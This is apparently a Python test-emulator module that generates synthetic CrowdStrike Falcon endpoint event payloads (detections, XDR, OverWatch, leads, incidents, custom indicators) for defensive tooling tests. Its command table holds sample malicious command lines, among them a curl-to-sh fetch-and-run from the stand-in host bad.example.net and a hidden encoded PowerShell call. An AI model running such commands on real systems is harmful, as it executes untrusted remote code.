"""Events about endpoints: detections old and new, custom indicators, incidents, leads (events reference 5.1, 5.4-5.6,
5.8, 5.12).
"""

from __future__ import annotations

from typing import Any, Optional

from tests.emulator.events.cast import Cast, Host
from tests.emulator.events.template import iso, millis, nanos, seconds, serial

Body = dict[str, Any]
LINK = "https://falcon.crowdstrike.com"
_FLAGS = [
    "Indicator",
    "Detect",
    "InddetMask",
    "SensorOnly",
    "Rooting",
    "KillProcess",
    "KillSubProcess",
    "QuarantineMachine",
    "QuarantineFile",
    "PolicyDisabled",
    "KillParent",
    "OperationBlocked",
    "ProcessBlocked",
    "RegistryOperationBlocked",
    "CriticalProcessDisabled",
    "BootupSafeguardEnabled",
    "FsOperationBlocked",
    "HandleOperationDowngraded",
    "KillActionFailed",
    "BlockingUnsupportedOrDisabled",
    "SuspendProcess",
    "SuspendParent",
    "ContainmentFileSystem",
]
_DISPOSITIONS = (
    (0, "Detection, standard detection.", ()),
    (16, "Prevention, process killed.", ("KillProcess",)),
    (272, "Detection, process would have been killed if policy was enabled.", ("KillProcess", "PolicyDisabled")),
    (1024, "Prevention, operation blocked.", ("OperationBlocked",)),
    (2048, "Prevention, process was blocked from execution.", ("ProcessBlocked",)),
    (2176, "Prevention, process was blocked and quarantined.", ("ProcessBlocked", "QuarantineFile")),
    (2304, "Detection, process would have been blocked if policy was enabled.", ("ProcessBlocked", "PolicyDisabled")),
)
SEVERITIES = ((10, "Informational"), (30, "Low"), (50, "Medium"), (70, "High"), (90, "Critical"))
_TECHNIQUES = (
    ("Execution", "TA0002", "PowerShell", "T1059.001", 10197),
    ("Machine Learning", "CSTA0004", "Sensor-based ML", "CST0007", 5704),
    ("Credential Access", "TA0006", "OS Credential Dumping", "T1003", 10250),
    ("Initial Access", "TA0001", "Phishing", "T1566", 10391),
    ("Falcon Overwatch", "CSTA0006", "Malicious Activity", "CST0002", 10111),
)
_COMMANDS = {
    "Windows": (
        "powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -enc SQBFAFgA \\"',
    ),
    "Linux": ("bash", "/bin/bash -c 'curl -s http://bad.example.net/x?a=1&b=2 | sh'"),
    "Mac": ("osascript", "osascript -e 'display dialog \"<update>\"'"),
}
_FOLDERS = {"Windows": "\\Device\\HarddiskVolume3\\Windows\\System32\\", "Linux": "/usr/bin/", "Mac": "/usr/bin/"}


def disposition(cast: Cast, choice: Optional[int] = None) -> Body:
    """The three disposition fields."""
    value, text, raised = cast.one(_DISPOSITIONS) if choice is None else _DISPOSITIONS[choice]
    flags = {name: name in raised for name in _FLAGS}
    return {
        "PatternDispositionDescription": text,
        "PatternDispositionValue": value,
        "PatternDispositionFlags": flags,
    }


def accesses(cast: Cast, host: Host) -> list[Body]:
    """Some network connections of a process."""
    return [
        {
            "AccessType": 0,
            "AccessTimestamp": seconds(-65 - number),
            "Protocol": "TCP",
            "LocalAddress": host.ipv6 if number % 3 == 2 else host.ip,
            "LocalPort": 49152 + number,
            "RemoteAddress": "2001:db8:ffff::53" if number % 3 == 2 else cast.outside(),
            "RemotePort": 443,
            "ConnectionDirection": 0,
            "IsIPV6": number % 3 == 2,
        }
        for number in range(cast.rng.randrange(0, 6))
    ]


def epp(cast: Cast) -> Body:
    """EppDetectionSummaryEvent: the endpoint detection of today."""
    host, user = cast.host(), cast.person()
    severity, severity_name = cast.one(SEVERITIES)
    tactic, tactic_id, technique, technique_id, pattern = cast.one(_TECHNIQUES)
    process, parent = cast.process(host), cast.process(host)
    name, command = _COMMANDS[host.platform]
    folder = _FOLDERS[host.platform]
    composite = f"{cast.customer}:ind:{host.aid}:{process}-{pattern}-{serial(600000)}"
    started = -cast.rng.randrange(64, 157)
    files = [
        {"Timestamp": seconds(started), "FileName": f"x{number}.tmp", "FilePath": folder}
        for number in range(cast.rng.randrange(0, 4))
    ]
    return {
        "ProcessStartTime": seconds(started),
        "ProcessEndTime": 0,
        "ProcessId": process,
        "ParentProcessId": parent,
        "Hostname": host.name,
        "UserName": user,
        "Name": cast.one(("Suspicious Activity", "NGAV", "Known Malware", "Attacker Methodology")),
        "Description": "A script host started an encoded command line. Review the process tree.",
        "Severity": severity,
        "SeverityName": severity_name,
        "FileName": name,
        "FilePath": folder + name,
        "CommandLine": command,
        "SHA256String": cast.hex(64),
        "MD5String": cast.hex(32),
        "SHA1String": "0" * 40,
        "LogonDomain": cast.one(("EXAMPLE", "NA", "")),
        "FalconHostLink": f"{LINK}/activity-v2/detections/{composite}?_cid=g01000example",
        "AgentId": host.aid,
        "IOCType": cast.one(("hash_sha256", "domain", "")),
        "IOCValue": cast.one((cast.hex(64), "bad.example.net", "")),
        "CompositeId": composite,
        "LocalIP": host.ip,
        "MACAddress": host.mac if cast.rng.random() < 0.8 else "N/A",
        "Tactic": tactic,
        "Technique": technique,
        "Objective": cast.one(("Falcon Detection Method", "Gain Access", "Keep Access", "Follow Through")),
        **disposition(cast),
        "NetworkAccesses": accesses(cast, host),
        "DnsRequests": [{"DomainName": "bad.example.net", "RequestType": "A", "LoadTime": seconds(started)}],
        "FilesWritten": files,
        "QuarantineFiles": [{"ImageFileName": folder + name, "SHA256HashData": cast.hex(64)}],
        "ParentImageFileName": "winword.exe" if host.platform == "Windows" else "sshd",
        "ParentCommandLine": '"C:\\Program Files\\Microsoft Office\\WINWORD.EXE" invoice.docm',
        "GrandParentImageFileName": "explorer.exe",
        "GrandParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "HostGroups": ",".join(cast.host_groups[: cast.rng.randrange(1, 5)]),
        "Tags": "SensorGroupingTags/finance,FalconGroupingTags/vip",
        "AssociatedFile": folder + name,
        "PatternId": pattern,
        "SourceVendors": "CrowdStrike",
        "SourceProducts": "Falcon Insight",
        "DataDomains": "Endpoint",
        "AggregateId": f"aggind:{host.aid}:{cast.rng.randrange(10**10, 10**11)}",
        "Type": cast.one(("ldt", "ofp")),
        "ParentImageFilePath": folder + "winword.exe",
        "GrandParentImageFilePath": folder + "explorer.exe",
        "PlatformId": str(("Windows", "Mac", "Linux").index(host.platform)),
        "PlatformName": host.platform,
        "LocalIPv6": host.ipv6 if cast.rng.random() < 0.5 else "",
        "MitreAttack": [mitre(tactic, tactic_id, technique, technique_id, pattern)],
    }


def legacy(cast: Cast) -> Body:
    """DetectionSummaryEvent: the endpoint detection until 2025."""
    host = cast.host("Windows")
    tactic, _, technique, _, pattern = cast.one(_TECHNIQUES)
    detection = cast.rng.randrange(10**10, 10**11)
    severity = cast.rng.randrange(1, 6)
    started = -cast.one((1, 3, 66, 86400, 432000))
    user = cast.person()
    return {
        "ProcessStartTime": seconds(started),
        "ProcessEndTime": seconds(started + 1),
        "ProcessId": cast.process(host),
        "ParentProcessId": cast.process(host),
        "ComputerName": host.name,
        "UserName": user,
        "DetectName": cast.one(("NGAV", "Intel Detection", "Overwatch Detection")),
        "DetectDescription": "File is above the sensor ML threshold.",
        "Severity": severity,
        "SeverityName": SEVERITIES[severity - 1][1],
        "FileName": "setup.exe",
        "FilePath": f"\\Device\\HarddiskVolume2\\Users\\{user}\\Downloads",
        "CommandLine": f'"C:\\Users\\{user}\\Downloads\\setup.exe" ',
        "SHA256String": cast.hex(64),
        "MD5String": cast.hex(32),
        "SHA1String": "0" * 40,
        "MachineDomain": "LAB",
        "ExecutablesWritten": [{"Timestamp": seconds(started), "FileName": "a.exe", "FilePath": "\\Device\\Temp"}],
        "NetworkAccesses": accesses(cast, host),
        "FalconHostLink": f"{LINK}/activity/detections/detail/{host.aid}/{detection}?_cid={cast.customer}",
        "SensorId": host.aid,
        "DetectId": f"ldt:{host.aid}:{detection}",
        "LocalIP": host.ip,
        "MACAddress": host.mac,
        "Tactic": tactic,
        "Technique": technique,
        "Objective": "Falcon Detection Method",
        **disposition(cast),
        "GrandparentImageFileName": "\\Device\\HarddiskVolume2\\Windows\\explorer.exe",
        "GrandparentCommandLine": "C:\\Windows\\Explorer.EXE",
        "ParentImageFileName": "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
        "ParentCommandLine": "cmd.exe /c start",
        "PatternId": pattern,
    }


def xdr(cast: Cast) -> Body:
    """XdrDetectionSummaryEvent; times in milliseconds, or in nanoseconds as in 2022."""
    host, other = cast.host(), cast.host()
    old = cast.rng.random() < 0.25
    return {
        "DetectId": f"{cast.customer}:ind:{cast.customer}:xdr|{cast.hex(32)}",
        "Name": "Encoded PowerShell followed by mailbox rule",
        "Description": "Endpoint and mail activity share one user.",
        "PatternId": 100011,
        "TacticIds": "TA0002,TA0009",
        "Tactics": "Execution, Collection",
        "TechniqueIds": "T1059.001,T1114.003",
        "Techniques": "PowerShell,Email Forwarding Rule",
        "StartTimeEpoch": nanos(-293) if old else millis(-293000),
        "EndTimeEpoch": nanos(-73) if old else millis(-73000),
        "Severity": cast.one((16, 70, 90)),
        "HostNames": f"{host.name}, {other.name}",
        "IPv4Addresses": f"{host.ip},{other.ip}",
        "IPv6Addresses": host.ipv6,
        "Users": cast.person(),
        "SensorIds": f"{host.aid},{other.aid}",
        "SHA256Hashes": cast.hex(64),
        "EmailAddresses": cast.analyst(),
        "SourceProducts": "Falcon,ExampleMail",
        "SourceVendors": "CrowdStrike,ExampleVendor",
        "DataDomains": "Endpoint,Email",
        "Author": "CrowdStrike",
        "XdrType": "xdr",
    }


def overwatch(cast: Cast) -> Body:
    """OverwatchGenericDetectionSummaryEvent."""
    severity, severity_name = cast.one(SEVERITIES)
    composite = f"{cast.customer}:lead:generic|{cast.customer}:{cast.uuid()}"
    return {
        "CompositeId": composite,
        "Timestamp": iso(-60),
        "Name": "OverwatchDetection",
        "DisplayName": "OverWatch Detection",
        "Description": "Hunters saw hands-on activity in a cloud account.",
        "Category": "Cloud",
        "FalconHostLink": f"{LINK}/unified-detections/{composite}?_cid=g01000example",
        "Severity": severity,
        "SeverityName": severity_name,
        "MitreAttack": [mitre("Falcon Overwatch", "CSTA0006", "Malicious Activity", "CST0002", 10111)],
    }


def lead(cast: Cast, indicators: Optional[int] = None, updated: int = -1) -> Body:
    """AutomatedLeadSummaryEvent."""
    host, lead_id = cast.host(), cast.hex(64)
    count = cast.rng.randrange(5, 9) if indicators is None else indicators
    return {
        "LeadId": lead_id,
        "Name": f"{host.name} at {iso(-80)}",
        "SignalStartTimestamp": seconds(-90),
        "SignalEndTimestamp": seconds(-85),
        "SignalUpdatedTimestamp": seconds(updated),
        "Score": cast.rng.randrange(20, 95),
        "ThreatgraphIndicators": [
            {
                "IndicatorId": f"ind:{host.aid}:{cast.process(host)}-10358-{cast.rng.randrange(10**7, 10**8)}",
                "SignalAssociationTimestamp": seconds(-90 + number),
                "PatternId": 10358 + number,
                "PatternDisposition": 0,
                "Severity": 70,
                "ProcessId": str(cast.process(host)),
                "HostId": host.aid,
                "Hostname": host.name,
                "TemplateInstanceId": 24302,
                "Description": "A rarely seen file was opened by the user.",
                "DisplayName": "UserExecution",
            }
            for number in range(count)
        ],
        "MitreAttack": [mitre("Execution", "TA0002", "User Execution", "T1204", 10358)],
        "LeadType": "simple",
        "CompositeId": f"{cast.customer}:automated-lead:{cast.customer}:{lead_id}",
        "FalconHostLink": f"{LINK}/automated-leads/{lead_id}?_cid=g01000example",
    }


def incident(cast: Cast) -> Body:
    """IncidentSummaryEvent."""
    host = cast.host()
    incident_id = f"inc:{host.aid}:{cast.hex(32)}"
    lateral = cast.rng.randrange(0, 2)
    body: Body = {
        "IncidentStartTime": seconds(-85),
        "IncidentEndTime": seconds(),
        "FalconHostLink": f"{LINK}/crowdscore/incidents/details/{incident_id}",
        "State": cast.one(("open", "closed")),
        "FineScore": cast.one((0.1, 2.4, 6.1)),
        "LateralMovement": lateral,
        "IncidentType": 1,
        "IncidentID": incident_id,
        "HostID": host.aid,
    }
    return {**body, "LMHostIDs": [cast.hex(32)]} if lateral else body


def custom_ioc(cast: Cast) -> Body:
    """CustomerIOCEvent: ids as strings, exactly one indicator."""
    host = cast.host()
    name, value = cast.one(
        (
            ("DomainName", "bad.example.net"),
            ("MD5String", cast.hex(32)),
            ("SHA256String", cast.hex(64)),
            ("IPv4", cast.outside()),
            ("IPv6", "2001:db8::bad"),
        )
    )
    return {
        "AgentIdString": host.aid,
        "ProcessId": str(cast.process(host)),
        "ComputerName": host.name,
        name: value,
        "ParentProcessId": "",
        "FileName": _COMMANDS[host.platform][0],
        "FilePath": _FOLDERS[host.platform],
        "CommandLine": _COMMANDS[host.platform][1],
        "DeviceId": host.aid,
        "ProcessStartTime": seconds(-66),
    }


def hash_spreading(cast: Cast) -> Body:
    """HashSpreadingEvent: only `AlertTime` is public, the rest is a guess."""
    return {"AlertTime": seconds(), "SHA256String": cast.hex(64), "HashSpreadingSensorEventTime": seconds(-30)}


def mitre(tactic: str, tactic_id: str, technique: str, technique_id: str, pattern: int) -> Body:
    """One element of MitreAttack."""
    ids = {"TacticID": tactic_id, "TechniqueID": technique_id, "PatternID": pattern}
    return {"Tactic": tactic, "TacticID": ids["TacticID"], "Technique": technique, **ids}
